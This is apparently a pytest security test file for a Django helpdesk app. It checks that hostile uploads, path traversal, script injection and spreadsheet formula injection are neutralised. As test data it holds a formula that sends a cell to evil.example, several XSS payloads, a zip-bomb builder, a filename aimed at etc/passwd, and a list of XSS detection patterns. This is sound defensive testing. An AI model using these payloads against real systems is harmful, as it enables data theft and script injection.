"""What a hostile colleague would send, by the pages themselves.

Each rule has its own tests where it lives: tests/requests_app/test_files.py (types, archives,
names), tests/requests_app/test_markdown.py, tests/desk/test_table.py and
tests/administration/test_audit_page.py (formulas). Here the whole way is gone once.
"""

from __future__ import annotations

import io
import uuid
import zipfile
from urllib.parse import quote

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone

from catalogue.models import Service
from people.models import User
from requests_app.models import Attachment, ServiceRequest
from tests import factories
from tests.beforehand import beforehand
from tests.times import MONDAY_NOON

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Look")'
SCRIPT = (
    "<script>alert(1)</script> [a](javascript:alert(2)) <img src=x onerror=alert(3)> "
    "![b](data:text/html;base64,PHNjcmlwdD4=) <a href='vbscript:x'>c</a> <svg/onload=alert(4)>"
)

HARM = (
    "<script>alert",
    "<img src=x",
    "<svg/onload",
    'href="javascript:',
    'href="vbscript:',
    "href='vbscript:x'>",
    'src="data:',
)
"""How the same would look if a browser ran it."""


@pytest.fixture(autouse=True)
def _noon(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(timezone, "now", lambda: MONDAY_NOON)


@pytest.fixture
@beforehand
def asked(laptop: Service, dana: User) -> ServiceRequest:
    """A request of Dana's."""
    return factories.make_service_request(laptop, by=dana, subject=FORMULA)


def _browser(person: User) -> Client:
    client = Client()
    client.force_login(person, backend="django.contrib.auth.backends.ModelBackend")
    return client


def _bomb() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as packing:
        packing.writestr("a", bytes(5_000_000))
    return archive.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("picture.png", b"<html><script>alert(1)</script>", "is not what its name says"),
        ("page.html", b"<script>alert(1)</script>", "of a kind that is not taken"),
        ("backup.zip", _bomb(), "unpack to far too much"),
    ],
    ids=["lies", "page", "bomb"],
)
def test_a_file_that_means_harm_is_refused_by_name_and_nothing_of_it_is_kept(
    name: str, content: bytes, says: str, dana: User
) -> None:
    answer = _browser(dana).post(
        "/files/", {"files": SimpleUploadedFile(name, content, content_type="image/png")}
    )
    assert answer.status_code == 422
    assert says in answer.content.decode()
    assert not Attachment.objects.exists()


def test_a_path_in_the_name_of_a_file_leads_nowhere(asked: ServiceRequest, dana: User) -> None:
    boundary = "edge"
    body = (
        f"--{boundary}\r\n"
        'Content-Disposition: form-data; name="files"; filename="..\\\\..\\\\etc/../passwd.txt"\r\n'
        "Content-Type: text/plain\r\n\r\nharmless\r\n"
        f"--{boundary}--\r\n"
    )
    answer = _browser(dana).post(
        "/files/", body.encode(), content_type=f"multipart/form-data; boundary={boundary}"
    )
    assert answer.status_code in {200, 201}
    kept = Attachment.objects.get()
    assert kept.name == "passwd.txt"
    for name in ("../passwd.txt", "..%2f..%2fpasswd.txt", quote("../../manage.py", safe="")):
        address = f"/requests/{asked.reference}/files/{kept.pk}/{name}"
        assert _browser(dana).get(address).status_code == 404


def test_script_in_what_is_written_is_read_as_words(
    asked: ServiceRequest, dana: User, omar: User
) -> None:
    sent = _browser(dana).post(
        f"{asked.get_absolute_url()}do/",
        {"act": "reply", "message": SCRIPT, "key": str(uuid.uuid4())},
    )
    assert sent.status_code == 302
    for reader in (dana, omar):
        page = _browser(reader).get(asked.get_absolute_url()).content.decode()
        assert "alert(1)" in page
        assert not [harm for harm in HARM if harm in page]


def test_a_formula_in_a_subject_stays_words_in_the_table(asked: ServiceRequest, lena: User) -> None:
    page = _browser(lena).get("/queue/it/open/table.csv")
    table = b"".join(page).decode() if page.streaming else page.content.decode()
    assert page.status_code == 200, page.status_code
    assert "'=HYPERLINK" in table
    assert not any(cell.startswith(("=", '"=')) for cell in table.replace(";", ",").split(","))
